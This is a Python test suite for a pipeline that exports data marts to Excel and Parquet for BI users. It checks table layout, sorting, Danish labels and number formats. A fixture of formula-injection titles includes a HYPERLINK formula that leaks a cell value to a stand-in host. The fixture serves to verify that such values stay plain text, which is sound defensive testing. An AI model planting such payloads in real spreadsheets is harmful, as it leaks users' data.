"""The exports a BI user opens without cleaning, read back with openpyxl as Excel would: every sheet
an Excel table with autofilter and a frozen header, rows sorted by the mart's key (from the dbt
manifest), the Danish label beside every coded value, number formats by type, no formula cell
ever (issue 14: a goal title starting with `=` became a live formula), fct_data_quality in the
workbook and as Parquet."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import duckdb
import openpyxl
import pytest
from openpyxl.utils import get_column_letter
from openpyxl.utils.escape import unescape

from orchestration.publish.exports import export_marts
from orchestration.publish.marts import MartSpecError, export_query, mart_specs
from orchestration.quality.run_info import RunInfo, read_run_info

HOSTILE_TITLES = {
    "1.1": '=HYPERLINK("http://example.invalid/?leak="&A1,"Klik her")',
    "1.2": "+45 12 34 56 78",
    "1.3": "-1+1",
    "2.1": "@SUM(A1:A9)",
    "2.2": "\t=1+1",
    "6.1": "\r=2+2",
}


@pytest.fixture(scope="module")
def demo_book(demo_warehouse: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(demo_warehouse / "exports" / "marts.xlsx")


def _columns(sheet) -> dict[str, int]:
    return {cell.value: i for i, cell in enumerate(sheet[1])}


def _no_formula_anywhere(book: openpyxl.Workbook) -> None:
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert not formulas, formulas[:10]


def test_every_sheet_is_an_excel_table_with_autofilter_and_frozen_header(demo_book):
    for sheet in demo_book.worksheets:
        (table,) = sheet.tables.values()
        last = f"{get_column_letter(sheet.max_column)}{max(sheet.max_row, 2)}"
        assert table.ref == f"A1:{last}", sheet.title
        assert table.autoFilter is not None and table.autoFilter.ref == table.ref
        assert sheet.freeze_panes == "A2", sheet.title
        assert [c.value for c in sheet[1]] == [c.name for c in table.tableColumns]
    _no_formula_anywhere(demo_book)


def _sheets_by_table(book) -> dict:
    """Each data sheet by the name of its Excel table (the mart's whole name)."""
    return {name: ws for ws in book.worksheets for name in ws.tables}


def test_every_mart_in_both_formats_sorted_by_its_key(demo_warehouse: Path, demo_book):
    specs = mart_specs(demo_warehouse / "dbt_target" / "manifest.json")
    serving = demo_warehouse / "serving" / "warehouse.duckdb"
    with duckdb.connect(str(serving), read_only=True) as con:
        counts = {
            name: con.execute(f"select count(*) from marts.{name}").fetchone()[0]
            for (name,) in con.execute(
                "select table_name from information_schema.tables where table_schema = 'marts'"
            ).fetchall()
        }
        seed_order = {  # a coded key column sorts in its seed's order (benefit groups: total first)
            (mart, c.name): dict(
                con.execute(
                    f"select {c.code_labels.code}, {c.code_labels.sort} "
                    f"from {c.code_labels.seed_relation}"
                ).fetchall()
            )
            for mart, spec in specs.items()
            for c in spec.columns.values()
            if c.code_labels and c.code_labels.sort
        }
    assert "fct_data_quality" in counts and counts["fct_data_quality"] > 0
    # a mart's sheet is found by its Excel table, which keeps the whole name (a sheet name ends
    # at 31 characters: fct_benchmark_nowcast_backtest_summary is cut)
    assert set(_sheets_by_table(demo_book)) == {*counts, "Om_data", "Kolonner"}
    assert {"Om data", "Kolonner"} <= set(demo_book.sheetnames)
    assert len(demo_book.sheetnames) == len(counts) + 2
    assert all(len(name) <= 31 for name in demo_book.sheetnames)
    parquet = demo_warehouse / "exports" / "parquet"
    assert {p.stem for p in parquet.glob("*.parquet")} == set(counts)
    assert specs["fct_benchmark"].key == ("kommunekode", "period_code", "benefit_group")
    for mart, count in counts.items():
        assert specs[mart].key, f"{mart} has no primary-key test"
        path = parquet / f"{mart}.parquet"
        with duckdb.connect() as con:
            names = [
                d[0] for d in con.execute("select * from read_parquet(?)", [str(path)]).description
            ]
            keys = con.execute(
                f"select {', '.join(specs[mart].key)} from read_parquet(?)", [str(path)]
            ).fetchall()
        sheet = _sheets_by_table(demo_book)[mart]
        assert sheet.max_row - 1 == count == len(keys), mart
        # the sheet holds the Parquet file's columns, in its order
        assert len(names) == sheet.max_column
        in_sheet = [
            tuple(row[names.index(k)] for k in specs[mart].key)
            for row in sheet.iter_rows(min_row=2, values_only=True)
        ]
        assert in_sheet == [tuple(k) for k in keys], mart

        def order(row: tuple, mart: str = mart) -> tuple:
            return tuple(
                seed_order[mart, c][v] if (mart, c) in seed_order else v
                for c, v in zip(specs[mart].key, row, strict=True)
            )

        assert in_sheet == sorted(in_sheet, key=order), mart
    first = [
        r[:6] for r in demo_book["fct_benchmark"].iter_rows(min_row=2, max_row=5, values_only=True)
    ]
    assert [r[5] for r in first] == [
        "total",
        "unemployment_benefit",
        "sickness_benefit",
        "social_assistance",
    ]


def test_danish_label_beside_every_coded_value(demo_warehouse: Path, demo_book):
    """Every coded mart column (meta.code_labels in its YAML) is exported as its code, headed
    "<header> (kode)", with the Danish label from its seed right beside it; every code in the
    demo has a label, so no seed lacks one the marts use."""
    specs = mart_specs(demo_warehouse / "dbt_target" / "manifest.json")
    serving = demo_warehouse / "serving" / "warehouse.duckdb"
    coded = {
        (mart, column.name): column
        for mart, spec in specs.items()
        for column in spec.columns.values()
        if column.code_labels
    }
    with duckdb.connect(str(serving), read_only=True) as con:
        seeds = {
            key: dict(
                con.execute(
                    f"select {c.code_labels.code}, {c.code_labels.label_da} "
                    f"from {c.code_labels.seed_relation}"
                ).fetchall()
            )
            for key, c in coded.items()
        }
    assert seeds["fct_benchmark", "benefit_group"]["unemployment_benefit"] == "A-dagpenge mv."
    labelled: dict[tuple[str, str], set] = {}
    for (mart, name), column in coded.items():
        sheet = _sheets_by_table(demo_book)[mart]
        columns = _columns(sheet)
        code, label = columns[f"{column.header} (kode)"], columns[column.header]
        assert label == code + 1, (mart, name)  # the label right beside its code
        pairs = {(row[code], row[label]) for row in sheet.iter_rows(min_row=2, values_only=True)}
        assert all(seeds[mart, name][c] == text for c, text in pairs if c is not None), (mart, name)
        labelled[mart, name] = {text for _, text in pairs}
    assert {"Dårligere", "Bedre"} <= labelled["fct_goal_fulfilment", "trend"]
    assert "Opfyldt" in labelled["fct_goal_fulfilment", "status"]
    assert {"Fejl", "Advarsel"} <= labelled["fct_data_quality", "severity"]
    assert "Bestået" in labelled["fct_data_quality", "status"]
    assert "Øverste fjerdedel" in labelled["fct_benchmark_explained", "list_position"]
    assert labelled["fct_benchmark_top_bottom", "list_end"] == {"Top", "Bund"}
    kolonner = list(demo_book["Kolonner"].iter_rows(min_row=2, values_only=True))
    described = {(row[0], row[1]): row[3] for row in kolonner}
    assert "benefit_groups" in described["fct_benchmark", "benefit_group_label_da"]
    assert described["fct_benchmark", "diff_share_pp"].startswith("Faktisk minus forventet andel")
    # every description in the sheet is the Danish one of the YAML
    for mart, name, _, description in kolonner:
        column = specs[mart].columns.get(name)
        if column is not None:
            assert description == column.description != column.description_en, (mart, name)


def test_number_formats_follow_the_column_types(demo_book):
    sheet = demo_book["fct_benchmark"]
    columns = _columns(sheet)
    row = next(
        r
        for r in sheet.iter_rows(min_row=2)
        if r[columns["Forskel i antal (faktisk − forventet)"]].value < 0
    )
    count = row[columns["Forskel i antal (faktisk − forventet)"]]
    assert count.data_type == "n" and count.number_format == "0"  # a negative number stays one
    share = row[columns["Forskel i andel (pct.-point)"]]
    assert share.data_type == "n" and share.number_format == "0.00"
    assert row[columns["Kommune"]].number_format == "@"
    period = demo_book["dim_period"]
    first_month = next(period.iter_rows(min_row=2))[_columns(period)["Første måned"]]
    assert first_month.is_date and first_month.number_format == "yyyy-mm-dd"
    quality = demo_book["fct_data_quality"]
    checked = next(quality.iter_rows(min_row=2))[_columns(quality)["Kontrolleret"]]
    assert checked.is_date and checked.number_format == "yyyy-mm-dd hh:mm:ss"


def test_a_goal_title_that_looks_like_a_formula_stays_text(demo_warehouse: Path, tmp_path: Path):
    serving = tmp_path / "warehouse.duckdb"
    shutil.copy(demo_warehouse / "serving" / "warehouse.duckdb", serving)
    with duckdb.connect(str(serving)) as con:
        for goal, title in HOSTILE_TITLES.items():
            con.execute(
                "update marts.dim_goal set title_da = ? where kommunekode = 707 and goal_code = ?",
                [title, goal],
            )
        info = read_run_info(con)
    result = export_marts(
        serving,
        tmp_path / "exports",
        manifest_path=demo_warehouse / "dbt_target" / "manifest.json",
        run_info=info,
    )
    book = openpyxl.load_workbook(result.xlsx)
    _no_formula_anywhere(book)
    sheet = book["dim_goal"]
    columns = _columns(sheet)
    titles = {
        row[columns["Målnummer"]].value: row[columns["Hvad følges der op på?"]]
        for row in sheet.iter_rows(min_row=2)
        if row[columns["Kommunekode"]].value == 707
    }
    for goal, title in HOSTILE_TITLES.items():
        cell = titles[goal]
        # a carriage return is stored as OOXML's _x000D_, which openpyxl does not turn back
        assert unescape(cell.value) == title and cell.data_type == "s", goal
        assert cell.quotePrefix, goal  # Excel shows it as text, and keeps it text when edited
    negative = [
        c
        for row in book["fct_benchmark"].iter_rows(min_row=2)
        for c in row
        if isinstance(c.value, int | float) and c.value < 0
    ]
    assert negative and all(c.data_type == "n" for c in negative)


def _manifest(tmp_path: Path, column_meta: dict, *, seed: str = "benefit_groups") -> Path:
    nodes = {
        "model.jobcenter.fct_x": {
            "resource_type": "model",
            "name": "fct_x",
            "alias": "fct_x",
            "schema": "marts",
            "columns": {
                "kommunekode": {
                    "name": "kommunekode",
                    "description": "Code",
                    "config": {"meta": {"label_da": "Kommunekode", "description_da": "Kode"}},
                },
                "benefit_group": {"name": "benefit_group", "config": {"meta": column_meta}},
            },
        },
        "test.jobcenter.pk_fct_x": {
            "resource_type": "test",
            "attached_node": "model.jobcenter.fct_x",
            "test_metadata": {
                "name": "unique_combination_of_columns",
                "kwargs": {"combination_of_columns": ["kommunekode", "benefit_group"]},
            },
        },
        f"seed.jobcenter.{seed}": {
            "resource_type": "seed",
            "name": seed,
            "alias": seed,
            "schema": "reference",
        },
    }
    path = tmp_path / "manifest.json"
    path.write_text(json.dumps({"nodes": nodes}), encoding="utf-8")
    return path


def test_mart_specs_read_key_and_code_labels_from_the_manifest(tmp_path: Path):
    labels = {
        "seed": "benefit_groups",
        "code": "benefit_group",
        "label_da": "benefit_group_label_da",
    }
    (spec,) = mart_specs(_manifest(tmp_path, {"code_labels": labels})).values()
    assert spec.key == ("kommunekode", "benefit_group")
    assert spec.columns["kommunekode"].header == "Kommunekode"
    assert spec.columns["benefit_group"].code_labels.seed_relation == '"reference"."benefit_groups"'
    sql, columns = export_query("fct_x", ["kommunekode", "benefit_group"], spec)
    assert [c.name for c in columns] == ["kommunekode", "benefit_group", "benefit_group_label_da"]
    assert sql.endswith('order by m."kommunekode", m."benefit_group"')


def test_a_code_label_seed_that_does_not_exist_is_named_in_the_error(tmp_path: Path):
    labels = {"seed": "benefit_group_names", "code": "benefit_group", "label_da": "label"}
    with pytest.raises(
        MartSpecError, match=r"marts\.fct_x\.benefit_group: .*'benefit_group_names'"
    ):
        mart_specs(_manifest(tmp_path, {"code_labels": labels}))
    with pytest.raises(MartSpecError, match="must give seed, code and label_da"):
        mart_specs(_manifest(tmp_path, {"code_labels": {"seed": "benefit_groups"}}))


def test_a_mart_longer_than_a_sheet_is_cut_and_says_so(tmp_path: Path, monkeypatch):
    """Excel holds 1,048,575 data rows: the sheet gets the first in key order, "Om data" says so,
    and the Parquet file has them all (here with the limit lowered to 8 rows)."""
    import orchestration.publish.exports as exports
    import orchestration.publish.xlsx as xlsx

    monkeypatch.setattr(xlsx, "EXCEL_MAX_ROWS", 9)
    monkeypatch.setattr(exports, "EXCEL_MAX_ROWS", 9)
    source = tmp_path / "serving.duckdb"
    with duckdb.connect(str(source)) as con:
        con.execute("create schema marts")
        con.execute("create table marts.fct_n as select 12 - range as n from range(12)")
    result = export_marts(source, tmp_path / "out", manifest_path=None, run_info=RunInfo())
    book = openpyxl.load_workbook(result.xlsx)
    assert [r[0] for r in book["fct_n"].iter_rows(min_row=2, values_only=True)] == list(range(1, 9))
    about = dict(book["Om data"].iter_rows(min_row=2, values_only=True))
    assert about["Ark fct_n"] == "de første 8 af 12 rækker (alle i fct_n.parquet)"
    with duckdb.connect() as con:
        assert con.execute(
            "select count(*) from read_parquet(?)", [str(result.parquet["fct_n"])]
        ).fetchone() == (12,)
